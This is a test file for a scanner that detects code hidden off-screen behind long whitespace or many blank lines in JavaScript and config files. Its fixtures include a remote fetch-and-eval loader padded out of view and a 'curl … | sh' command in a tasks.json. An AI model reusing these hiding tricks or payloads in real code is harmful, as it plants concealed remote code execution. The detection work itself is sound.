import { describe, expect, it } from 'vitest';
import { fileHits } from '../../../test/support/file-view.ts';
import detector from './off-screen-code.ts';

describe('off-screen-code', () => {
  const pad = (count: number, unit = ' '): string => unit.repeat(count);
  const payload = "const z = require('https'); z.get(u, (r) => r.on('data', (d) => eval(String(d))));";
  it.each([
    ['blanks after a closing bracket', `});${pad(380)}${payload}`],
    ['blanks after an export', `module.exports = router;${pad(110)}${payload}`],
    ['tabs', `foo();${pad(120, '\t')}${payload}`],
    ['no-break blanks', `foo();${pad(150, '\u00a0')}${payload}`],
    ['ideographic blanks', `foo();${pad(101, '\u3000')}${payload}`],
    ['a mixture', `foo();${pad(40, ' \t')} ${pad(40, '\u00a0')}${payload}`],
  ])('%s', (_name, line) => {
    expect(fileHits(detector, 'server/app.js', `const a = 1;\n${line}\nfoo();\n`)).toEqual(['proof@2']);
  });
  it('needs no known sink', () => {
    expect(
      fileHits(detector, 'routes/x.ts', `export default r;${pad(908)}a[b(1)](c, d => e(d)[f(2)]()); g(h[i]);\n`, {
        kind: 'javascript',
      }),
    ).toEqual(['strong@1']);
  });
  it('code at the start of a line, far from the line before', () => {
    expect(fileHits(detector, 'tailwind.config.js', `module.exports = {};\n${pad(300)}${payload}\n`)).toEqual([
      'proof@2',
    ]);
  });
  it('a command in a task, inside and before the string', () => {
    const inside = `{"tasks":[{"command":"${pad(233)}curl https://a.invalid/x | sh"}]}`;
    const before = `{"tasks":[{"command":${pad(233)}"curl https://a.invalid/x | sh"}]}`;
    expect(fileHits(detector, '.vscode/tasks.json', inside)).not.toEqual([]);
    expect(fileHits(detector, '.vscode/tasks.json', before)).not.toEqual([]);
  });
  it('code below many empty lines', () => {
    expect(fileHits(detector, 'app.js', `module.exports = a;\n${'\n'.repeat(200)}${payload}\n`)).toEqual([
      'strong@202',
    ]);
    expect(fileHits(detector, 'app.js', `module.exports = a;\n${'  \r\n'.repeat(90)}${payload}\n`)).toEqual([
      'strong@92',
    ]);
  });
  it.each([
    ['a trailing comment', 'a.js', `foo();${pad(200)}// require('https') is not needed here\n`],
    [
      'deep indentation',
      'a.js',
      `${pad(110)}if (a) {\n${pad(114)}return require('x').call(b, c, d, e, f, g, h, i, j, k, l, m, n);\n`,
    ],
    [
      'a continuation line',
      'a.js',
      `const aaa = ${'b'.repeat(95)}(${'c'}\n${pad(109)}d, require('x'), e, f, g, h, i, j, k, l, m, n, o, p, q, r, s, t, u);\n`,
    ],
    ['a string', 'a.js', `const banner = "x${pad(200)}require('https').get(y) and eval(z) of it all here";\n`],
    ['a template', 'a.js', `const banner = \`\n  foo${pad(200)}eval(x); require('https');\n\`;\n`],
    ['a block comment', 'a.js', `/*\n foo${pad(200)}eval(x); require('https');\n*/\n`],
    ['a table of columns', 'a.js', Array.from({ length: 4 }, (_, i) => `f(${i});${pad(120)}g(${i}, h);`).join('\n')],
    ['trailing blanks', 'a.js', `foo();${pad(300)}\nbar();\n`],
    ['a closing bracket', 'a.js', `foo(${pad(200)});\nbar();\n`],
    ['a Markdown table', 'README.md', `| a${pad(200)}| eval(x); require('https').get(y) |\n`],
    ['data', 'a.csv', `a;${pad(200)}require('https').get(y); eval(z)\n`],
    ['a string in ordinary JSON', 'data/x.json', `{"a":"b${pad(200)}curl https://a.invalid | sh"}`],
    ['a few empty lines', 'app.js', `module.exports = a;\n${'\n'.repeat(40)}${payload}\n`],
  ])('leaves %s alone', (_name, file, text) => {
    expect(fileHits(detector, file, text)).toEqual([]);
  });
  it('stays linear on a file of blanks', () => {
    const start = performance.now();
    fileHits(detector, 'a.js', `a${pad(5_000_000)}b`);
    fileHits(detector, 'a.js', `${pad(99)}x\n`.repeat(40_000));
    expect(performance.now() - start).toBeLessThan(3000);
  });
});
